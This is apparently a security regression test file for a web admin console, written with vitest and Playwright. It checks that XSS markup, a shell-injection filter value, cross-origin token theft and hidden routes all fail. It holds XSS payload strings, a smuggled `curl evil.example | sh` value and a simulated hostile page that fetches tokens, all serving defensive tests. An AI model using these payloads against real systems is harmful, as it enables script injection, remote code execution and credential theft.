import { expect, test } from 'vitest';
import { connect } from '../../kit/openid.ts';
import { publicUrl } from '../../kit/service.ts';
import { button, headingOf, row, useConsole } from './kit.ts';

const { service, administrator, open } = useConsole();

const markup = `"><img src=x onerror=alert(1)><script>alert(1)</script>{{constructor.constructor('alert(1)')()}}`;

// regression A246
test('markup in every field that a user or a client can set is shown as text, and runs nothing', async () => {
  const [user, attacker] = [await administrator(), await service.given.user()];
  const fields = { firstname: markup, lastname: markup, displayname: markup };
  const saved = await service.send('PATCH', '/v1/users/me', { headers: attacker.headers, body: fields });
  expect(saved.status).toBe(200);
  await connect(service, { user: attacker, metadata: { isFirstParty: false, clientName: markup } });
  await service.db('companies').where({ id: attacker.company }).update({ name: markup });
  await service.db('sessions').where({ user_id: attacker.id }).update({ user_agent: markup, ip: markup });
  await open({ user, hash: '#/users' }, async ({ page }) => {
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs += 1;
      return dialog.dismiss();
    });
    await page.getByText('onerror').first().waitFor();
    await row(page, 'onerror').getByRole('link').click();
    await headingOf(page, markup).waitFor();
    for (const tab of ['Sessions', 'Companies', 'Apps and agents', 'Timeline']) {
      await page.getByRole('navigation', { name: 'User' }).getByRole('link', { name: tab }).click();
      await page.locator('section[aria-busy=false], section:not([aria-busy])').first().waitFor();
      expect(await page.locator('img, .app script, a[href^="javascript:"], iframe').count(), tab).toBe(0);
    }
    expect(dialogs).toBe(0);
  });
});

// regression A246
test('a filter of a sent link cannot end the quotes of the shown commands', async () => {
  const user = await administrator();
  const value = `x'; curl evil.example | sh; '")}`;
  await open({ user, hash: `#/users?q=${encodeURIComponent(value)}` }, async ({ page }) => {
    await page.getByText('No users match').waitFor();
    const bar = page.getByRole('region', { name: 'Request of this screen' });
    await button(page, 'curl').click();
    await bar.getByText('Bearer $TOKEN').waitFor();
    const curl = (await bar.locator('pre').textContent()) ?? '';
    // Without escaped quotes, and what is between the others, no part of the value is left.
    expect(curl.replaceAll(`'\\''`, '').replaceAll(/'[^']*'/g, '')).not.toMatch(/evil|sh;/);
    await button(page, 'GraphQL').click();
    await bar.getByText('query {').waitFor();
    expect(await bar.locator('pre').textContent()).toContain(String.raw`curl evil.example | sh; '\")}"`);
  });
});

// regression A247
test('no token and no key of the user is in the address, in the storage, in a link or in a request to another origin', async () => {
  const user = await administrator();
  await open({ user, hash: '#/users' }, async ({ page, requests }) => {
    await headingOf(page, 'Users').waitFor();
    await page.getByText(user.email).first().waitFor();
    const stored = await page.evaluate('JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])');
    expect(stored).not.toMatch(/eyJ|gh_/);
    expect(await page.evaluate('document.documentElement.outerHTML')).not.toMatch(/eyJhbGci/);
    for (const request of requests) {
      expect(request.url()).not.toMatch(/eyJ|gh_app_|gh_svc_/);
      if (!request.url().startsWith('data:')) expect(new URL(request.url()).origin).toBe(publicUrl);
    }
    const { headers } = await service.send('GET', new URL(page.url()).pathname);
    expect(headers['referrer-policy']).toBe('no-referrer');
  });
});

// regression A247
test('a page of another origin gets no token of the console, neither by a form nor by a frame', async () => {
  const user = await administrator();
  await open({ user, hash: '#/users' }, async ({ page }) => {
    await headingOf(page, 'Users').waitFor();
    const { pathname } = new URL(page.url());
    const cookies = await page.context().cookies();
    const Cookie = cookies.map(({ name, value }) => `${name}=${value}`).join('; ');
    const path = `${pathname.replace('/console/', '/account/')}/token`;
    const own = { Cookie, Origin: publicUrl, 'Sec-Fetch-Site': 'same-origin' };
    expect((await service.send('POST', path, { headers: own })).status).toBe(200);
    for (const headers of [
      { Cookie, Origin: 'https://evil.example' },
      { Cookie, Origin: 'null', 'Sec-Fetch-Site': 'cross-site' },
      { Cookie, Origin: publicUrl, 'Sec-Fetch-Site': 'same-site' },
      { Cookie },
    ])
      expect((await service.send('POST', path, { headers })).status).toBe(403);
    for (const { httpOnly, sameSite } of cookies.filter(({ name }) => name.includes('gh-session')))
      expect([httpOnly, sameSite]).toEqual([true, 'Lax']);
  });
});

// regression A399
test.each(['http://evil.example', 'http://evil.gatehouse.test'])(
  'a page of %s gets nothing by scripts, forms and frames of a browser that is logged in',
  async (origin) => {
    const user = await administrator();
    await open({ user, hash: '#/users' }, async ({ page }) => {
      await headingOf(page, 'Users').waitFor();
      const console = page.url().split('#')[0]!;
      const token = `${console.replace('/console/', '/account/')}/token`;
      const context = page.context();
      await context.route(`${origin}/**`, (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: `<form method="post" action="${token}"></form><iframe src="${console}"></iframe>`,
        }),
      );
      const evil = await context.newPage();
      await evil.goto(origin);
      for (const mode of ['cors', 'no-cors'])
        expect(
          await evil.evaluate(
            `fetch('${token}', { method: 'POST', credentials: 'include', mode: '${mode}' })
              .then((reply) => reply.text()).catch(() => 'refused')`,
          ),
          mode,
        ).toBe('refused');
      expect(evil.frames()[1]!.url()).toBe('chrome-error://chromewebdata/');
      const [reply] = await Promise.all([evil.waitForResponse(token), evil.evaluate('document.forms[0].submit()')]);
      expect(reply.status()).toBe(403);
      expect(await reply.text()).not.toContain('eyJ');
    });
  },
);

// regression A247
test('hidden parts of the console stay hidden for an address of them, and the API refuses what they would send', async () => {
  const [user, other] = [await administrator(['users:read']), await service.given.user()];
  await open({ user, hash: `#/users/${other.id}?tab=timeline` }, async ({ page, requests }) => {
    await headingOf(page, 'Ada Lovelace').waitFor();
    expect(requests.filter((request) => request.url().includes('/v1/audit'))).toEqual([]);
    await page.goto(`${page.url().split('#')[0]}#/__proto__`);
    await headingOf(page, 'This screen does not exist').waitFor();
    const token = await service.send('POST', '/v1/auth', { body: { email: user.email, password: user.password } });
    const headers = { ...user.headers, Authorization: `Bearer ${token.body.token}` };
    expect((await service.send('POST', `/v1/users/${other.id}/ban`, { headers })).status).toBe(403);
  });
});
